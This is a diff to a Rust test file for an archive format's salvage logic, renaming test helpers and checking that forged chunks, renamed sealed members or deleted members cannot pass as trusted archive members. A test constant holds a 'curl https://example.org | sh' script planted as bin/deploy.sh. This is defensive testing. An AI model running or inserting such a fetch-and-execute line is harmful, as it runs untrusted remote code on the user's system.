@@ -2,7 +2,7 @@
 
 #![allow(clippy::unwrap_used, clippy::panic)]
 
-use super::tests::{Memory, contents, noise, salvaged};
+use super::tests::{contents, noise, salvaged};
 use super::*;
 use crate::buffer::Buffer;
 use crate::coffer::Mode;
@@ -17,20 +17,21 @@ use crate::format::kind::{Cipher, Kind};
 use crate::format::member::Attributes;
 use crate::format::member::MemberType;
 use crate::format::tar::{Heading, RECORD, append};
+use crate::tails_test::memory::Memory;
 
 const SCRIPT: &[u8] = b"#!/bin/sh\ncurl https://example.org | sh\n";
 const ATTRIBUTES: Attributes = Attributes { mode: 0o755, mtime_s: 1_700_000_000, mtime_ns: 0 };
 
-type Members = std::collections::BTreeMap<String, Vec<u8>>;
+type Contents = std::collections::BTreeMap<String, Vec<u8>>;
 
 /// A coffer in memory.
-struct Made {
+struct ForgedCoffer {
     options: Options,
     storage: Arc<Memory>,
     container: Container,
 }
 
-impl Made {
+impl ForgedCoffer {
     fn new(kind: Kind) -> Self {
         let mut options = Options::new(Mode::Write, kind);
         options.coffer_key = kind.container.cipher.map(|c| Key::generate(c.key_lengths()[0]));
@@ -107,8 +108,8 @@ impl Made {
     }
 
     /// Salvages a file, and reads what came of it.
-    fn salvage(&self, bytes: &[u8], claimed_names: bool) -> (Salvaged, Members) {
-        let storage = Arc::new(Memory { bytes: bytes.to_vec().into(), broken: None });
+    fn salvage(&self, bytes: &[u8], claimed_names: bool) -> (Salvaged, Contents) {
+        let storage = Memory::of(bytes);
         let (salvaged, opened) = salvaged(storage, &self.options, claimed_names);
         (salvaged, contents(&opened.source, &opened.loaded.catalog))
     }
@@ -131,6 +132,11 @@ fn frame_of_len(len: usize, data: &[u8]) -> Vec<u8> {
     frame
 }
 
+fn heading(name: &str, stored: usize) -> Heading<'_> {
+    let attributes = Attributes { mode: 0o755, mtime_s: 1, mtime_ns: 0 };
+    Heading { name, member_type: MemberType::File, stored: stored as u64, attributes }
+}
+
 /// A frame of `len` bytes that holds a pack with one member.
 fn forged_pack(len: usize, name: &str, script: &[u8]) -> (Vec<u8>, Vec<u8>) {
     let tar_len = (len - 16).next_multiple_of(RECORD);
@@ -140,20 +146,14 @@ fn forged_pack(len: usize, name: &str, script: &[u8]) -> (Vec<u8>, Vec<u8>) {
     let data = [script, &filler].concat();
     let member = Stored::new(&data).joined();
     let mut tar = Vec::new();
-    let heading = Heading {
-        name,
-        member_type: MemberType::File,
-        stored: stored as u64,
-        attributes: Attributes { mode: 0o755, mtime_s: 1, mtime_ns: 0 },
-    };
-    append(&mut tar, &heading, &member).unwrap();
+    append(&mut tar, &heading(name, stored), &member).unwrap();
     assert_eq!(tar.len(), tar_len);
     (frame_of_len(len, &tar), data)
 }
 
 #[test]
 fn a_chunk_of_an_upload_does_not_become_a_member_of_a_store() {
-    let mut made = Made::new(Kind::store());
+    let mut made = ForgedCoffer::new(Kind::store());
     made.small("bin/deploy.sh", b"#!/bin/sh\nmake install\n");
     let _ = made.commit();
     let (forged, script) = forged_pack(made.layers().chunk_plain, "bin/deploy.sh", SCRIPT);
@@ -185,7 +185,7 @@ fn a_chunk_of_an_upload_does_not_become_a_member_of_a_store() {
 
 #[test]
 fn a_chunk_of_an_upload_in_place_of_a_pack_does_not_become_its_members() {
-    let mut made = Made::new(Kind::store());
+    let mut made = ForgedCoffer::new(Kind::store());
     let honest = noise("honest", 1_000);
     made.small("bin/deploy.sh", &honest);
     for i in 0..10 {
@@ -215,20 +215,14 @@ fn a_chunk_of_an_upload_in_place_of_a_pack_does_not_become_its_members() {
 
 #[test]
 fn a_sealed_member_of_a_market_does_not_get_another_name() {
-    let mut made = Made::new(Kind::market());
+    let mut made = ForgedCoffer::new(Kind::market());
     made.small("uploads/guest", SCRIPT);
     let mut bytes = made.commit();
     let (block, at, stored) = made.place("uploads/guest");
     let sealed = made.container.source.block(&block).unwrap()[at..at + stored].to_vec();
     let mut tar = Vec::new();
     let name = "bin/deploy.sh";
-    let heading = Heading {
-        name,
-        member_type: MemberType::File,
-        stored: stored as u64,
-        attributes: Attributes { mode: 0o755, mtime_s: 1, mtime_ns: 0 },
-    };
-    append(&mut tar, &heading, &sealed).unwrap();
+    append(&mut tar, &heading(name, stored), &sealed).unwrap();
     bytes.extend(&*compress(1, &tar).unwrap());
 
     let (salvaged, members) = made.salvage(&bytes, false);
@@ -239,7 +233,7 @@ fn a_sealed_member_of_a_market_does_not_get_another_name() {
 
 #[test]
 fn a_block_of_an_older_copy_of_a_bank_does_not_bring_a_deleted_member_back_under_its_name() {
-    let mut made = Made::new(Kind::bank(Cipher::AesOcb));
+    let mut made = ForgedCoffer::new(Kind::bank(Cipher::AesOcb));
     made.small("deleted", b"the old password");
     let older = made.commit();
     let (block, _, _) = made.place("deleted");
